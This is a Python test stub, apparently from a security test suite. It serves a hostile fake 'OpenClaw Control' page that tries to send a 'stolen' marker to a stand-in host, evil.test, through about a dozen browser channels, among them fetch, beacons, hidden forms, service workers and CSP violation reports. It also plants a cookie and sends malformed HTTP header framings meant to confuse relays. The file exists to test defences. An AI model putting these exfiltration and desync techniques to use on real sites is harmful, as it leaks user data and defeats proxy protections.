"""A hostile container UI on a Unix socket, for tests/attacks/launch_ui_page_exfil.sh: what an agent
that rewrote OpenClaw's control UI could serve. Python stdlib only.

launch_ui_exfil_stub.py SOCKET COLLECTOR. GET / answers a page that tries to send "stolen" to
COLLECTOR (http://evil.test:<port>, another site) every way a page can without the user: fetch,
sendBeacon, an image, a script, a stylesheet, a frame, a form posted into a hidden frame, a
WebSocket, a dedicated worker's fetch, a service worker, a violation report of its own policy;
/worker.js and /sw.js are those workers' scripts; /echo-cookie answers the Cookie fields it got;
every answer sets a cookie (the web dashboard's name: cookies are per host, not per port). GET /?mode=M frames the page's answer head in a
way a relay could read differently from the browser (review 14b R1, R2; FRAMINGS below), and the
page's data is then "stolen-M". Answers keep the connection alive (as Node's do). Exits after 10
minutes."""
import os, socket, sys, threading, time

path, collector = sys.argv[1], sys.argv[2]

PAGE = """<!doctype html><!--\r\n\r\n a relay that looks for CRLF CRLF only ends the head here --><html><head><title>OpenClaw Control</title>
<link rel="stylesheet" href="C/style?d=stolen"></head><body>hello-ui
<img src="C/img?d=stolen">
<iframe src="C/frame?d=stolen"></iframe>
<iframe name="sink" style="display:none"></iframe>
<form id="f" method="POST" action="C/form?d=stolen" target="sink"><input name="d" value="stolen"></form>
<script src="C/script?d=stolen"></script>
<script>
window.__r = {};
const note = (k, v) => { window.__r[k] = String(v); };
try { fetch("C/fetch?d=stolen", {mode: "no-cors"}).then(() => note("fetch", "sent"), (e) => note("fetch", e)); } catch (e) { note("fetch", e); }
try { note("beacon", navigator.sendBeacon("C/beacon?d=stolen", "stolen")); } catch (e) { note("beacon", e); }
try { const ws = new WebSocket("C/ws".replace("http:", "ws:")); ws.onerror = () => note("ws", "error"); } catch (e) { note("ws", e); }
try { document.getElementById("f").submit(); note("form", "submitted"); } catch (e) { note("form", e); }
try { new Audio("C/media?d=stolen").play().catch(() => {}); } catch (e) { note("media", e); }
try { const w = new Worker("/worker.js"); w.onmessage = (m) => note("worker", m.data); w.onerror = (e) => note("worker", "error " + e.message); } catch (e) { note("worker", e); }
if (navigator.serviceWorker) navigator.serviceWorker.register("/sw.js").then(() => note("sw", "registered"), (e) => note("sw", e));
else note("sw", "no serviceWorker");
</script></body></html>""".replace("C/", collector + "/")

WORKER = 'fetch("C/worker?d=stolen", {mode: "no-cors"}).then(() => postMessage("sent"), (e) => postMessage(String(e)));'.replace("C/", collector + "/")
SW = 'self.addEventListener("install", () => fetch("C/sw?d=stolen", {mode: "no-cors"}));'.replace("C/", collector + "/")


# A policy of the page's own whose violation report goes to the collector: the audio above
# violates it, and the browser POSTs the report (with the blocked URL) there, outside any
# connect-src.
REPORTING = "Content-Security-Policy: media-src 'none'; report-uri C/report?d=stolen\r\n".replace("C/", collector + "/")

# How the answer head to GET /?mode=M is framed: (status and interim lines before the fields,
# line end, the reporting policy's spelling).
FRAMINGS = {
    "plain": ("", "\r\n", REPORTING),
    "lf": ("", "\n", REPORTING.replace("\r\n", "\n")),  # bare LF line ends
    "crlf-lf": ("", "\r\n", REPORTING),  # CRLF lines, the head ended by CRLF LF (below)
    "interim-space": ("HTTP/1.1  100 Continue\r\n\r\n", "\r\n", REPORTING),
    "interim-zero": ("HTTP/1.1 0100\r\n\r\n", "\r\n", REPORTING),
    "interim-101": ("HTTP/1.1 101 Switching Protocols\r\n\r\n", "\r\n", REPORTING),
    "fold": ("", "\r\n", REPORTING.replace("; report-uri", ";\r\n report-uri")),
    "space-colon": ("", "\r\n", REPORTING.replace("Policy:", "Policy :")),
    "lf-field": ("", "\r\n", "X-A: 1\n" + REPORTING),
}


def answer(c, ctype, body, mode="plain"):
    before, eol, reporting = FRAMINGS[mode]
    data = body.encode()
    head = (f"HTTP/1.1 200 OK{eol}Content-Type: {ctype}{eol}Content-Length: {len(data)}{eol}{reporting}"
            f"Set-Cookie: tokfence_dashboard=planted-by-the-ui; Path=/{eol}Connection: keep-alive{eol}")
    end = "\n" if mode == "crlf-lf" else eol
    c.sendall((before + head + end).encode() + data)


def serve(c):
    try:
        c.settimeout(30)
        data = b""
        while True:
            while b"\r\n\r\n" not in data:
                chunk = c.recv(65536)
                if not chunk:
                    return
                data += chunk
            head, _, data = data.partition(b"\r\n\r\n")
            target = head.split(b" ")[1].decode() if b" " in head else "/"
            mode = target.split("mode=", 1)[1] if "mode=" in target else "plain"
            if target == "/echo-cookie":  # what the UI was sent of the browser's cookies
                cookies = [l.split(b":", 1)[1].strip().decode() for l in head.split(b"\r\n") if l.lower().startswith(b"cookie:")]
                answer(c, "text/plain", "cookie=" + ";".join(cookies))
            elif target == "/worker.js":
                answer(c, "text/javascript", WORKER)
            elif target == "/sw.js":
                answer(c, "text/javascript", SW)
            elif mode in FRAMINGS:
                answer(c, "text/html", PAGE.replace("d=stolen", "d=stolen-" + mode), mode)
            else:
                answer(c, "text/html", PAGE)
    except OSError:
        pass
    finally:
        c.close()


s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
s.bind(path)
s.listen(64)
s.settimeout(1)
end = time.time() + 600
while time.time() < end:
    try:
        conn, _ = s.accept()
    except socket.timeout:
        continue
    threading.Thread(target=serve, args=(conn,), daemon=True).start()
